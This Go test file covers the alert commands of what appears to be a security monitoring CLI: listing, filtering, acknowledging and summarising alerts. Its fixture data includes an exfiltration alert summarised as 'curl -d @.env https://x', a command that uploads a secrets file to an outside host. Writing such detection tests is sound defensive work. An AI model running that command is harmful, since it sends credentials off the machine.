package cli

import (
	"context"
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/alert"
	"github.com/vigil-sec/vigil/internal/rules"
	"github.com/vigil-sec/vigil/internal/store"
)

func seedAlerts(t *testing.T, home string) []alert.Alert {
	t.Helper()
	s, err := store.Open(filepath.Join(home, "vigil.db"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	now := time.Now().UTC().Truncate(time.Second)
	as := []alert.Alert{
		{ID: "0193a5b2-0000-7000-8000-00000000000a", Key: "exfil|s1", Rule: "exfil", Severity: rules.Critical, Category: "exfiltration",
			SessionID: "s1", Project: "web", FirstSeen: now.Add(-2 * time.Hour), LastSeen: now.Add(-time.Hour), Count: 3, Summary: "curl -d @.env https://x", Status: alert.StatusOpen},
		{ID: "0193a5b2-0000-7000-8000-00000000000b", Key: "net|s2", Rule: "net", Severity: rules.Medium, Category: "network_access",
			SessionID: "s2", Project: "api", FirstSeen: now.Add(-30 * time.Minute), LastSeen: now.Add(-10 * time.Minute), Count: 7, Summary: "wget x", Status: alert.StatusOpen},
		{ID: "0193a5b2-0000-7000-8000-00000000000c", Key: "old|s0", Rule: "old", Severity: rules.High, Category: "x",
			SessionID: "s0", Project: "web", FirstSeen: now.Add(-20 * 24 * time.Hour), LastSeen: now.Add(-20 * 24 * time.Hour), Count: 1, Status: alert.StatusOpen},
	}
	if err := s.SaveAlerts(context.Background(), as); err != nil {
		t.Fatal(err)
	}
	return as
}

func TestAlertsCommands(t *testing.T) {
	home, _ := cliHome(t)
	if r := vigil(t, "alerts", "show"); r.code != 0 || !strings.Contains(r.stderr, "does not exist yet") {
		t.Errorf("no store: %+v", r)
	}
	seedAlerts(t, home)
	ids := func(out string) string {
		var got []string
		for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
			var a alert.Alert
			if err := json.Unmarshal([]byte(l), &a); err != nil {
				t.Fatalf("line %q: %v", l, err)
			}
			got = append(got, a.ID[len(a.ID)-1:])
		}
		return strings.Join(got, "")
	}
	tests := []struct {
		name string
		args []string
		want string
	}{
		{"all", []string{"alerts", "show", "--format", "json"}, "bac"},
		{"severity", []string{"alerts", "show", "--format", "json", "--severity", "high"}, "ac"},
		{"since", []string{"alerts", "show", "--format", "json", "--since", "7d"}, "ba"},
		{"project", []string{"alerts", "show", "--format=json", "--project", "web"}, "ac"},
		{"limit", []string{"alerts", "show", "--format", "json", "--limit", "1"}, "b"},
	}
	for _, tc := range tests {
		r := vigil(t, tc.args...)
		if r.code != 0 {
			t.Fatalf("%s: %+v", tc.name, r)
		}
		if got := ids(r.stdout); got != tc.want {
			t.Errorf("%s: got %s, want %s", tc.name, got, tc.want)
		}
	}
	r := vigil(t, "alerts", "show")
	if r.code != 0 || !strings.Contains(r.stdout, "ID") || !strings.Contains(r.stdout, "0193a5b2-0000-7000-8000-00000000000a  CRITICAL") || !strings.Contains(r.stdout, "curl -d @.env https://x") {
		t.Errorf("table:\n%s", r.stdout)
	}
	r = vigil(t, "alerts", "ack", "0193a5b2-0000-7000-8000-00000000000a", "--by", "alice")
	if r.code != 0 || !strings.Contains(r.stdout, "acked 0193a5b2-0000-7000-8000-00000000000a (CRITICAL exfil, 3 occurrences) by alice") {
		t.Errorf("ack: %+v", r)
	}
	if r := vigil(t, "alerts", "show", "--status", "acked", "--format", "json"); ids(r.stdout) != "a" || !strings.Contains(r.stdout, `"acked_by":"alice"`) {
		t.Errorf("acked: %+v", r)
	}
	r = vigil(t, "alerts", "stats", "--days", "3", "--format", "json")
	var st store.AlertStats
	if err := json.Unmarshal([]byte(r.stdout), &st); err != nil || st.Alerts != 2 || st.Occurrences != 10 || st.Open != 1 {
		t.Errorf("stats %v: %+v", err, r)
	}
	r = vigil(t, "alerts", "stats")
	for _, want := range []string{"2 alerts, 10 occurrences, 1 open", "SEVERITY", "CRITICAL", "RULE", "exfil", "DAY"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("stats table lacks %q:\n%s", want, r.stdout)
		}
	}
	for _, bad := range [][]string{
		{"alerts"}, {"alerts", "nope"}, {"alerts", "show", "--severity", "huge"}, {"alerts", "show", "--since", "yesterday"},
		{"alerts", "show", "--format", "xml"}, {"alerts", "ack"}, {"alerts", "stats", "--days", "0"},
	} {
		if r := vigil(t, bad...); r.code != 2 {
			t.Errorf("%v: exit %d, want 2 (usage)", bad, r.code)
		}
	}
	if r := vigil(t, "alerts", "ack", "ffffffff"); r.code != 1 || !strings.Contains(r.stderr, "not found") {
		t.Errorf("ack unknown: %+v", r)
	}
}
